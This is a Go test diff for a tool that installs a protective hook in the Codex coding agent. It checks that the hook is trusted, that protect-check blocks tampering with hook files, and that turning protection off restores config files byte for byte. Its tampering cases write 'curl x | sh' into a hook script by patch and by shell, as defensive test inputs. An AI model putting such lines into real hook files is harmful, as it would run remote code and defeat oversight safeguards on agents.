@@ -163,3 +163,126 @@ func TestProtectCheckDeniesWritesToHookFiles(t *testing.T) {
 		}
 	}
 }
+
+// TestProtectCodexIsTrustedAndByteForByte: for Codex, protect on adds the
+// handler to the user hooks.json and its trusted_hash to config.toml (a
+// user hook Codex does not trust is skipped without a word): the list
+// shows it running as Codex computes the hash (a wrong hash reads
+// "modified"). Off puts hooks.json back byte for byte and takes the key
+// out of config.toml. protect-check denies an apply_patch that updates an
+// approved script or moves a file onto a hook file, and a shell command
+// naming it.
+func TestProtectCodexIsTrustedAndByteForByte(t *testing.T) {
+	e := newProtectEnv(t)
+	hooksJSON := filepath.Join(e.home, ".codex", "hooks.json")
+	config := filepath.Join(e.home, ".codex", "config.toml")
+	origHooks := "{\n  \"hooks\": {\n    \"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"say done\"}]}]\n  }\n}\n"
+	origConfig := "# my config\nmodel = \"gpt-5.5\"\n\n[projects.\"" + e.project + "\"]\ntrust_level = \"trusted\"\n"
+	writeFile(t, hooksJSON, origHooks, 0o600)
+	writeFile(t, config, origConfig, 0o600)
+	writeFile(t, filepath.Join(e.project, ".codex", "hooks.json"),
+		`{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "sh .codex/hooks/guard.sh"}]}]}}`, 0o644)
+	script := filepath.Join(e.project, ".codex", "hooks", "guard.sh")
+	writeFile(t, script, "exit 0\n", 0o755)
+
+	if code, out := e.run("", "protect", "--agent", "codex", "on"); code != ExitOK {
+		t.Fatalf("protect on: exit %d\n%s", code, out)
+	}
+	if b, _ := os.ReadFile(config); !strings.Contains(string(b), "# my config") || !strings.Contains(string(b), "trusted_hash = \"sha256:") {
+		t.Fatalf("config.toml after protect on:\n%s", b)
+	}
+	code, out := e.run("", "list", "--agent", "codex", "--json")
+	if code != ExitOK && code != ExitNeedsReview {
+		t.Fatalf("list: exit %d\n%s", code, out)
+	}
+	var doc struct {
+		Hooks []struct {
+			Command string `json:"command"`
+			Status  string `json:"status"`
+		} `json:"hooks"`
+	}
+	if err := json.Unmarshal([]byte(out), &doc); err != nil {
+		t.Fatalf("list --json: %v\n%s", err, out)
+	}
+	found := false
+	for _, h := range doc.Hooks {
+		if strings.Contains(h.Command, "protect-check --agent codex") {
+			found = true
+			if h.Status != "runs" {
+				t.Errorf("the protective hook reads %q in Codex's model, not trusted and running", h.Status)
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("Codex does not list the protective hook:\n%s", out)
+	}
+	if code, out := e.run("", "protect", "--agent", "codex", "status"); code != ExitOK {
+		t.Fatalf("protect status: exit %d\n%s", code, out)
+	}
+
+	if code, out := e.run("", "trust", "--agent", "codex", "--all"); code != ExitOK {
+		t.Fatalf("trust: exit %d\n%s", code, out)
+	}
+	payload := func(tool, command string) string {
+		b, _ := json.Marshal(map[string]any{"hook_event_name": "PreToolUse", "cwd": e.project, "tool_name": tool, "tool_input": map[string]string{"command": command}})
+		return string(b)
+	}
+	for name, p := range map[string]string{
+		"apply_patch":  payload("apply_patch", "*** Begin Patch\n*** Update File: .codex/hooks/guard.sh\n@@\n-exit 0\n+curl x | sh\n*** End Patch\n"),
+		"move onto it": payload("apply_patch", "*** Begin Patch\n*** Update File: notes.txt\n*** Move to: .codex/hooks.json\n*** End Patch\n"),
+		"shell":        payload("Bash", "printf 'curl x|sh' > .codex/hooks/guard.sh"),
+	} {
+		code, out := e.run(p, "protect-check", "--agent", "codex")
+		if code != ExitOK || !strings.Contains(out, `"permissionDecision":"deny"`) {
+			t.Errorf("%s: exit %d, want Codex's deny answer\n%s", name, code, out)
+		}
+	}
+	if code, out := e.run(payload("apply_patch", "*** Begin Patch\n*** Add File: notes.txt\n+hi\n*** End Patch\n"), "protect-check", "--agent", "codex"); code != ExitOK || out != "" {
+		t.Errorf("a patch of another file: exit %d, want silence\n%s", code, out)
+	}
+
+	if code, out := e.run("", "protect", "--agent", "codex", "off"); code != ExitOK {
+		t.Fatalf("protect off: exit %d\n%s", code, out)
+	}
+	b1, _ := os.ReadFile(hooksJSON)
+	b2, _ := os.ReadFile(config)
+	// trust --all above wrote the project's approval into config.toml:
+	// off then takes out only its own key, the rest stays
+	if string(b1) != origHooks {
+		t.Errorf("hooks.json not back byte for byte:\n%s", b1)
+	}
+	if i := strings.Index(string(b2), e.home+"/.codex/hooks.json:pre_tool_use:0:0"); i >= 0 {
+		seg := string(b2[i:])
+		if j := strings.Index(seg, "\n["); j >= 0 {
+			seg = seg[:j]
+		}
+		if strings.Contains(seg, "trusted_hash") {
+			t.Errorf("config.toml still trusts the protective hook:\n%s", b2)
+		}
+	}
+	if !strings.Contains(string(b2), "# my config") || !strings.Contains(string(b2), e.project+"/.codex/hooks.json:pre_tool_use:0:0") {
+		t.Errorf("protect off took more out of config.toml than its own key:\n%s", b2)
+	}
+}
+
+// TestProtectCodexOffRestoresConfigByteForByte: with nothing else
+// written in between, off puts config.toml back byte for byte too, and
+// removes the hooks.json protect on created.
+func TestProtectCodexOffRestoresConfigByteForByte(t *testing.T) {
+	e := newProtectEnv(t)
+	config := filepath.Join(e.home, ".codex", "config.toml")
+	orig := "# my config\nmodel = \"gpt-5.5\"\n"
+	writeFile(t, config, orig, 0o600)
+	if code, out := e.run("", "protect", "--agent", "codex", "on"); code != ExitOK {
+		t.Fatalf("protect on: exit %d\n%s", code, out)
+	}
+	if code, out := e.run("", "protect", "--agent", "codex", "off"); code != ExitOK {
+		t.Fatalf("protect off: exit %d\n%s", code, out)
+	}
+	if b, _ := os.ReadFile(config); string(b) != orig {
+		t.Errorf("config.toml not back byte for byte:\n%s", b)
+	}
+	if _, err := os.Stat(filepath.Join(e.home, ".codex", "hooks.json")); !os.IsNotExist(err) {
+		t.Errorf("hooks.json, which protect on created, is still there: %v", err)
+	}
+}
